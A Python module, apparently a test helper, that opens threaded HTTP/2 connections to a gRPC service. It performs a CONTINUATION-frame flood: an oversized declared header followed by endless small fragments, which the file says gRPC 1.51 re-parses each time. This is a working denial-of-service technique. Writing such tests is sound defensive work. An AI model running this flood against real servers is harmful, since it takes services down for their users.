"""Callers that keep to HTTP/2's letter and mean harm. Bounded in bytes and time."""

import socket
import threading
import time

from hpack import Encoder
from hyperframe.frame import ContinuationFrame, HeadersFrame, SettingsFrame

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + SettingsFrame().serialize()
CALL = [
    (":method", "POST"),
    (":scheme", "http"),
    (":path", "/attention.v1.AttentionService/Attend"),
    (":authority", "attacker"),
    ("content-type", "application/grpc"),
    ("te", "trailers"),
]


def header_block():
    """A call's headers, which leave HPACK's table as it was."""
    return Encoder().encode(CALL)


class Connections:
    """`attack` on each of some connections, in threads of their own."""

    def __init__(self, attack, address, count, **bounds):
        self.bytes = [0] * count
        self.closed = [False] * count  # by the other side
        self._bounds = bounds
        self._threads = [
            threading.Thread(target=self._run, args=(attack, address, i))
            for i in range(count)
        ]

    def __enter__(self):
        for thread in self._threads:
            thread.start()
        return self

    def __exit__(self, *_):
        self.wait()

    def wait(self):
        for thread in self._threads:
            thread.join()

    def _run(self, attack, address, index):
        host, port = address.split(":")
        try:
            with socket.create_connection((host, int(port)), timeout=60) as connection:
                for sent in attack(connection, **self._bounds):
                    self.bytes[index] += sent
        except (ConnectionError, BrokenPipeError):
            self.closed[index] = True


def unfinished_header(connection, most_bytes, seconds):
    """A header's value that is declared long and comes in CONTINUATIONs of 16 bytes.

    gRPC 1.51 parses what it has from the beginning with each of them.
    """
    end = time.monotonic() + seconds
    declared = b"\x00\x01x" + b"\x7f\x81\xff\xff\x7f"  # x: 2^28 bytes follow
    block = header_block() + declared
    connection.sendall(PREFACE + HeadersFrame(1, block).serialize())
    piece = ContinuationFrame(1, b"a" * 16).serialize() * 500
    sent = 0
    while sent < most_bytes and time.monotonic() < end:
        connection.sendall(piece)
        sent += len(piece)
        yield len(piece)
